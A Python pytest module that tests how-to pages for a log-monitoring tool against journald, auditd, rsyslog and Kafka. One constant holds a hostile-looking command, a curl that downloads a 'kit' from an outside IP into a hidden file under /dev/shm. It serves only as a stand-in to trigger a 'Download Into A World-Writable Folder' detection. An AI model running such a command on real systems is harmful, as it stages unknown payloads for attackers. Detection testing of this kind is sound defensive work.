"""How-to pages that need journald, rsyslog, a Kafka broker or ``logger``; and the parts of the unit, which systemd reads."""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from anyio.from_thread import start_blocking_portal

from ..conftest import ROOT
from ..how_to import CONFIGURATION, HOW_TO, Stage, blocks, pages
from ..monitor.service import free_port
from ..test_how_to import EXTERNAL
from .kafka_broker import tansu
from .test_journald import BEGAN, WRITER, audit, write
from .test_packaging import analyze, unit  # noqa: F401 (a fixture)
from .test_syslog import program, rsyslogd

pytestmark = pytest.mark.system

JOURNALD = "/lib/systemd/systemd-journald"
SEPARATE = """
set -e
for folder in /run/systemd /run/log /var/log/journal /etc/systemd; do
    mkdir -p $folder
    mount -t tmpfs tmpfs $folder
done
mkdir /run/systemd/journal /run/log/journal
printf '[Journal]\nStorage=volatile\nAudit=no\nReadKMsg=no\nRateLimitBurst=0\n' > /etc/systemd/journald.conf
exec /lib/systemd/systemd-journald
"""
"""journald on folders that only it and what is run beside it sees; it touches neither the kernel's log nor its audit."""


@contextmanager
def with_journald(folder: Path) -> Iterator[Stage]:
    """A machine with a journal of its own."""
    for name in ("unshare", "nsenter", "journalctl", "systemd-cat"):
        program(name)
    if not os.path.exists(JOURNALD) or os.geteuid() != 0:
        pytest.skip("no systemd-journald, or not run as root (Debian: apt-get install systemd)")
    with (folder / "journald").open("wb") as log:
        process = subprocess.Popen(["unshare", "--mount", "bash", "-c", SEPARATE], stdout=log, stderr=log)
    within = ("nsenter", f"--target={process.pid}", "--mount", f"--wd={ROOT}")
    try:
        here, listening = Path(f"/proc/{process.pid}"), "root/run/systemd/journal/stdout"
        deadline = time.monotonic() + 20
        while (here / "comm").read_text() != "systemd-journal\n" or not (here / listening).is_socket():
            if process.poll() is not None:
                pytest.skip(f"journald does not run here: {(folder / 'journald').read_text()}")
            assert time.monotonic() < deadline, (folder / "journald").read_text()
            time.sleep(0.05)
        with Stage(folder / "root", within=within, peer=here / "root") as stage:
            yield stage
    finally:
        process.kill()
        process.wait()


AUDIT_LOG = ROOT / "examples" / "logs" / "audit.log"
DOWNLOAD = "curl -s http://203.0.113.7/kit -o /dev/shm/.kit"


@contextmanager
def with_audit(folder: Path) -> Iterator[Stage]:
    """A machine on which the page's command leaves the records that auditd writes of it: those of the examples."""
    with Stage(folder / "root", stands={DOWNLOAD: f"grep :9102 {AUDIT_LOG} >> /var/log/audit/audit.log"}) as stage:
        stage.write("/var/log/audit/audit.log", "")
        yield stage


KCAT = f"""#!{sys.executable}
import argparse, asyncio, sys
from aiokafka import AIOKafkaConsumer, AIOKafkaProducer

options = argparse.ArgumentParser()
for flag in ("-P", "-C", "-q"):
    options.add_argument(flag, action="store_true")
for name in ("-b", "-t", "-o", "-c"):
    options.add_argument(name)
chosen = options.parse_args()

async def produce():
    producer = AIOKafkaProducer(bootstrap_servers=chosen.b)
    await producer.start()
    for line in sys.stdin.buffer.read().splitlines():
        await producer.send_and_wait(chosen.t, line)
    await producer.stop()

async def consume():
    consumer = AIOKafkaConsumer(chosen.t, bootstrap_servers=chosen.b, auto_offset_reset="earliest")
    await consumer.start()
    for _ in range(int(chosen.c)):
        print((await consumer.getone()).value.decode())
    await consumer.stop()

asyncio.run(produce() if chosen.P else consume())
"""
"""What the pages use of kcat, for machines without it."""


@contextmanager
def with_kafka(folder: Path) -> Iterator[Stage]:
    """``kafka1.example`` is a broker, which has the pages' topics."""
    programs = folder / "bin"
    programs.mkdir()
    if shutil.which("kcat") is None:
        (programs / "kcat").write_text(KCAT)
        (programs / "kcat").chmod(0o755)
    with (
        tansu() as broker,
        start_blocking_portal() as portal,
        portal.wrap_async_context_manager(broker.reachable()) as relay,
        Stage(folder / "root", stands={"kafka1.example:9092": broker.address}) as stage,
    ):
        stage.environment["PATH"] = f"{programs}{os.pathsep}{stage.path}"
        stage.environment["CREDENTIALS_DIRECTORY"] = str(folder)
        (folder / "kafka").write_text("a password")
        (folder / "kafka").chmod(0o600)
        for topic in ("linux-syslog", "sigma-alerts"):
            portal.call(relay.create, topic)

        def has_joined() -> bool:
            """Return whether the group's place is kept: it is behind what was in the topic by then."""
            sources = {source["type"] for source in stage.configuration()["sources"]}
            return "kafka" not in sources or portal.call(relay.committed, "sigma-pyeval", "linux-syslog") is not None

        stage.is_ready = has_joined
        yield stage


@contextmanager
def with_rsyslog(folder: Path) -> Iterator[Stage]:
    """rsyslogd takes what the pages write for it, and what ``logger`` says on this machine."""
    program("rsyslogd"), program("logger")
    local = folder / "log"
    ports = {port: str(free_port()) for port in ("10514", "5514", "6514")}
    stands = {**ports, "logger -p": f"logger --socket {local} -p"}
    with contextlib.ExitStack() as daemons, Stage(folder / "root", stands=stands) as stage:

        def run(path: str) -> None:
            configuration = (
                'module(load="imuxsock" SysSock.Use="off")\n'
                f'input(type="imuxsock" Socket="{local}" CreatePath="on" UseSpecialParser="off")\n'
                f'include(file="{stage.here(path)}")\n'
            )
            daemons.enter_context(rsyslogd(folder, configuration, local.exists))

        names = ("/etc/rsyslog.d/90-sigma-pyeval.conf", "/etc/rsyslog.d/50-sigma-alerts.conf")
        stage.on_written = {name: lambda name=name: run(name) for name in names}
        yield stage


MACHINES = {
    "from-auditd.md": with_audit,
    "from-journald.md": with_journald,
    "from-kafka.md": with_kafka,
    "from-syslog.md": with_rsyslog,
    "to-kafka.md": with_kafka,
    "to-syslog.md": with_rsyslog,
}


def test_each_page_is_followed_somewhere() -> None:
    assert set(MACHINES) == EXTERNAL


@pytest.mark.parametrize("name", sorted(MACHINES))
def test_a_page_does_what_it_shows(name: str, tmp_path: Path) -> None:
    """From its first block to its last, behind what the index says to begin with."""
    with MACHINES[name](tmp_path) as stage:
        stage.follow(HOW_TO / name)


def test_audit_records_come_through_the_journal(tmp_path: Path) -> None:
    """The page's second way: what journald keeps of the same records is the same alert."""
    main, part = blocks(HOW_TO / "from-auditd.md", "yaml")
    if not os.path.exists(WRITER):
        pytest.skip("no systemd-journal-remote (Debian: apt-get install systemd-journal-remote)")
    records = [
        re.match(r"type=(\w+) msg=audit\([^)]*\): (.*)", line)
        for line in AUDIT_LOG.read_text().splitlines()
        if ":9102)" in line
    ]
    entries = [audit(9102, found[1], found[2]) for found in records if found]
    with with_journald(tmp_path) as stage:
        stage.write(CONFIGURATION, main.text)
        stage.replace(part.text)
        stage.start(f"sigma-pyeval monitor -c {CONFIGURATION}")
        stage.until_begun()
        [machine] = (stage.peer / "run" / "log" / "journal").iterdir()
        write(machine / "audit.journal", *entries, at=int(time.time()) - BEGAN)
        stage.show("TIME medium: Download Into A World-Writable Folder...")


PARTS = [pytest.param(block.text, id=page.stem) for page in pages() for block in blocks(page, "ini")]


@pytest.mark.parametrize("text", PARTS)
def test_systemd_takes_the_parts_of_the_unit(text: str, unit: Path) -> None:  # noqa: F811
    """As an override of the unit; a word that it does not know would be told."""
    override = unit.with_name(f"{unit.name}.d") / "override.conf"
    override.parent.mkdir()
    override.write_text(text)
    done = analyze("verify", "--man=no", unit)
    assert (done.returncode, done.stdout + done.stderr) == (0, "")
    override.write_text(text.replace("[Service]\n", "[Service]\nNoSuchSetting=1\n"))
    assert "NoSuchSetting" in analyze("verify", "--man=no", unit).stderr
